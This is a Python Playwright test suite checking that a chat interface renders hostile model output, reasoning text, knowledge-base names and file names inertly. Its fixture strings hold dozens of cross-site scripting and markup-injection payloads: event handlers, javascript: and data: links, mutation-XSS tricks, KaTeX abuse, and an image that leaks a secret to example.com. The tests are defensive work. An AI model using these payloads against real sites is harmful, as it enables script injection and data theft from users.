"""What a model may say to do harm, and what breaks in mid-answer: nothing runs, nothing leaves, and the page says so."""

from __future__ import annotations

import os
import re
import signal
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.api_server import MODEL, ApiServer
from tests.page.scripted_upstream import ScriptedUpstream
from tests.page.visitor import SCRIPTED, set_settings

pytestmark = [pytest.mark.browser, pytest.mark.starter, pytest.mark.slow]
Visit = Callable[..., Page]
HOSTILE = """<script>window.hacked = 1</script>
<img src="x" onerror="window.hacked = 2"> ![leak](http://example.com/leak.png?secret) <img src="//example.com/a.png">

[click me](javascript:window.hacked=3) <a href="javascript:window.hacked=4">or me</a> <svg onload="window.hacked=5"></svg>

<iframe src="http://example.com"></iframe><form action="http://example.com"><input name="k"></form>
<style>body { display: none; background: url(http://example.com/b.png) }</style>
<p style="position:fixed;inset:0;background:url(http://example.com/c.png)">covering</p>

$\\href{javascript:window.hacked=6}{x}$ [a link](http://example.com/fine)

The end.
"""


@pytest.fixture
def scripted(visit: Visit) -> Callable[..., Page]:
    """A page that talks with the scripted endpoint through the gateway, as with any remote model."""

    def opened(**options: object) -> Page:
        page = visit("chat", settings=SCRIPTED, **options)
        expect(page.get_by_role("combobox", name="Model")).to_have_value("openai:scripted")
        return page

    return opened


def ask(page: Page, text: str = "Go") -> None:
    page.get_by_role("textbox", name="Message").fill(text)
    page.keyboard.press("Enter")


def answered(page: Page) -> None:
    expect(page.get_by_role("button", name="Send")).to_be_visible(timeout=60_000)


def test_hostile_markup_is_inert(scripted: Callable[..., Page], upstream: ScriptedUpstream) -> None:
    upstream.pieces = re.findall(r"[\s\S]{1,7}", HOSTILE)
    page = scripted(expects="inline event handler")  # the browser's report that the policy would have stopped it
    ask(page)
    expect(page.get_by_text("The end.")).to_be_visible()
    answered(page)
    for link in page.locator(".markdown a").all():
        assert not (link.get_attribute("href") or "").startswith("javascript")
        assert link.get_attribute("rel") == "noopener noreferrer"
    assert page.evaluate("window.hacked") is None
    for selector in ("script", "iframe", "form", "style", "img", "[onerror]", "[onload]", "p[style]"):
        assert page.locator(f".markdown {selector}").count() == 0, selector
    page.reload()
    expect(page.get_by_text("The end.")).to_be_visible()
    assert page.evaluate("window.hacked") is None


def test_a_line_of_a_megabyte_and_a_table_of_ten_thousand_cells_do_not_stop_the_page(
    scripted: Callable[..., Page], upstream: ScriptedUpstream
) -> None:
    table = "|" + "a|" * 100 + "\n|" + "-|" * 100 + "\n" + ("|" + "1|" * 100 + "\n") * 100
    upstream.pieces = ["x" * 1_000_000, "\n\n", table, "\n\nThe end."]
    page = scripted()
    ask(page)
    expect(page.get_by_text("The end.")).to_be_visible(timeout=60_000)
    answered(page)
    expect(page.get_by_text("shortened").first).to_be_visible()
    page.get_by_role("textbox", name="Message").fill("still alive")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_a_connection_cut_in_mid_answer_keeps_what_came_and_one_click_goes_on(
    scripted: Callable[..., Page], upstream: ScriptedUpstream
) -> None:
    upstream.pieces, upstream.breaks_after = ["Half ", "of ", "it. ", "Rest."], 3
    page = scripted(expects="Failed to load|ERR_")
    ask(page)
    answered(page)
    expect(page.locator(".markdown")).to_contain_text("Half of it.")
    expect(page.get_by_role("article").get_by_text("broke off")).to_be_visible()
    expect(page.locator(".toast.is-error")).to_be_visible()
    upstream.pieces, upstream.breaks_after = [" And the rest."], None
    page.get_by_role("button", name="Answer again").click()
    expect(page.locator(".markdown")).to_contain_text("And the rest.")


def test_thinking_is_folded(scripted: Callable[..., Page], upstream: ScriptedUpstream) -> None:
    upstream.reasoning, upstream.pieces = ["Hmm, ", "let me see."], ["Four."]
    page = scripted()
    expect(page.get_by_text("runs on another machine")).to_be_visible()
    ask(page, "2 + 2?")
    answered(page)
    expect(page.locator(".markdown")).to_have_text("Four.")
    expect(page.get_by_text("let me see.")).to_be_hidden()
    page.get_by_text("Thinking").click()
    expect(page.get_by_text("Hmm, let me see.")).to_be_visible()


def test_a_worker_that_dies_in_mid_answer_is_said_and_the_next_question_works(visit: Visit, server: ApiServer) -> None:
    page = visit("chat", expects="Failed to load|ERR_", settings={"max_tokens": 600, "temperature": 0})
    expect(page.get_by_role("combobox", name="Model")).to_have_value(MODEL)
    ask(page, "Write a long story about a lighthouse.")
    expect(page.locator(".markdown").last).to_contain_text(re.compile(r"\w+ \w+"), timeout=60_000)
    workers = [row for row in server.http.get("/ninestory/v1/ps").json()["data"] if "smollm2" in row["model"]]
    os.kill(workers[0]["pid"], signal.SIGKILL)
    expect(page.get_by_role("article").get_by_text("broke off")).to_be_visible()
    answered(page)
    set_settings(page, {"max_tokens": 4, "temperature": 0})
    expect(page.get_by_role("article", name="Assistant")).to_have_count(1)
    expect(page.get_by_role("combobox", name="Model")).to_have_value(MODEL)
    ask(page, "Hello again")
    expect(page.get_by_role("article", name="Assistant")).to_have_count(2, timeout=60_000)
    answered(page)
    expect(page.locator(".toast.is-error")).to_have_count(0)


MORE_HOSTILE = r"""[a](java&#115;cript:window.hacked=1) [b](JaVaScRiPt:window.hacked=2) [c](<java	script:window.hacked=3>)
[d](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGFja2VkPTQ8L3NjcmlwdD4=) [e](vbscript:x) [f](blob:http://x) [g](file:///etc/passwd)
<javascript:window.hacked=5> [ref]

[ref]: javascript:window.hacked=6 "title"

<svg><a xlink:href="javascript:window.hacked=7"><text y="20">svg link</text></a><animate onbegin="window.hacked=8" attributeName=x dur=1s /></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcvPg#x"/></svg> <math><mtext><table><mglyph><style><img src onerror=window.hacked=9></style></mglyph></table></mtext></math>
<details open ontoggle="window.hacked=10">x</details> <video><source onerror="window.hacked=11"></video>
<a href="/ui/" target="_self" ping="http://example.com/ping" id="app">here</a> <base href="http://example.com/">
<noscript><p title="</noscript><img src=x onerror=window.hacked=12>"></noscript> <template><img src=x onerror=window.hacked=13></template>
<form id="settings"><input name="attributes"><button formaction="javascript:window.hacked=14">press</button></form>
<object data="data:text/html,x"></object><embed src="data:text/html,x"><link rel="stylesheet" href="http://example.com/d.css"><meta http-equiv="refresh" content="0;url=http://example.com">

$\htmlData{x=javascript:window.hacked=15}{y}$ $\url{javascript:window.hacked=16}$ $\includegraphics{http://example.com/e.png}$
$\htmlStyle{position:fixed;inset:0;background:red}{z}$ $\def\a{\a\a}\a$ $\rule{99999em}{99999em}$ $\unicode{x}<img src=x onerror=window.hacked=17>$

```html"><img src=x onerror=window.hacked=18>
<script>window.hacked = 19</script></code></pre><img src=x onerror=window.hacked=20>
```

`<img src=x onerror=window.hacked=21>` | <b onmouseover=window.hacked=22>x</b>

The last line.
"""
HOSTILE_NAME = '"><img src=x onerror=window.hacked=1><svg onload=window.hacked=2>'


def assert_inert(page: Page) -> None:
    """No script of the text ran, nothing but http(s) is a link, and nothing that fetches or covers is in the page."""
    assert page.evaluate("window.hacked") is None
    wrong = page.evaluate(
        """() => [...document.querySelectorAll("main *, dialog *")].flatMap((e) => [...e.attributes]
          .filter((a) => /^on/i.test(a.name) || ["formaction", "ping", "srcdoc", "xlink:href"].includes(a.name)
            || (["href", "src", "data", "action"].includes(a.name)
                && /^[\\s\\0]*(javascript|vbscript|data:text|file|blob:http:..x)/i.test(a.value)))
          .map((a) => `${e.tagName} ${a.name}=${a.value}`))"""
    )
    assert wrong == []


def test_other_ways_into_markup_are_inert(scripted: Callable[..., Page], upstream: ScriptedUpstream) -> None:
    upstream.pieces = re.findall(r"[\s\S]{1,11}", MORE_HOSTILE)
    page = scripted(expects="inline event handler|base URI|KaTeX")
    ask(page)
    expect(page.get_by_text("The last line.")).to_be_visible()
    answered(page)
    assert_inert(page)
    for selector in (
        "script",
        "iframe",
        "object",
        "embed",
        "link",
        "meta",
        "base",
        "form",
        "button[formaction]",
        "img",
    ):
        assert page.locator(f".markdown {selector}").count() == 0, selector
    assert page.evaluate("document.baseURI === location.href")
    covering = page.evaluate(
        """() => [...document.querySelectorAll(".markdown *")].filter((e) => {
          const box = e.getBoundingClientRect(), style = getComputedStyle(e);
          return style.position === "fixed" || box.width > 4 * innerWidth && !e.closest(".scroll, pre, .katex");
        }).map((e) => e.outerHTML.slice(0, 100))"""
    )
    assert covering == []
    protocols = page.evaluate("""[...document.querySelectorAll(".markdown a[href]")].map((link) => link.protocol)""")
    assert set(protocols) <= {"http:", "https:", "mailto:"}


def test_hostile_thoughts_and_questions_are_inert(scripted: Callable[..., Page], upstream: ScriptedUpstream) -> None:
    upstream.reasoning, upstream.pieces = [HOSTILE, HOSTILE_NAME], ["Done."]
    page = scripted(expects="inline event handler")
    ask(page, HOSTILE_NAME)
    answered(page)
    page.get_by_text("Thinking").click()
    expect(page.get_by_text("Done.")).to_be_visible()
    assert_inert(page)


def test_hostile_names_of_bases_files_and_passages_are_inert(visit: Visit, server: ApiServer) -> None:
    store = server.http.post("/v1/vector_stores", json={"name": HOSTILE_NAME}).raise_for_status().json()
    try:
        name = "<img src=x onerror=window.hacked=3>.md"
        passage = f"# Lighthouse {HOSTILE_NAME}\n\nThe lighthouse keeper is called Quentin. {HOSTILE}"
        file = server.http.post(
            "/v1/files", files={"file": (name, passage.encode(), "text/markdown")}, data={"purpose": "assistants"}
        ).raise_for_status().json()  # fmt: skip
        server.http.post(f"/v1/vector_stores/{store['id']}/files", json={"file_id": file["id"]}).raise_for_status()
        page = visit("documents", expects="inline event handler")
        page.get_by_label("Knowledge base", exact=True).select_option(label=HOSTILE_NAME)
        expect(page.get_by_role("row").filter(has_text=name)).to_contain_text("ready", timeout=60_000)
        page.get_by_label("Answer").select_option("search")
        page.get_by_label("Question").fill("Who is the lighthouse keeper?")
        page.get_by_role("button", name="Ask", exact=True).click()
        found = page.locator(".found li").first
        expect(found).to_contain_text("Quentin", timeout=60_000)
        found.get_by_role("button").first.click()
        expect(page.get_by_role("dialog").locator("mark").first).to_be_visible()
        assert_inert(page)
    finally:
        server.http.delete(f"/v1/vector_stores/{store['id']}")
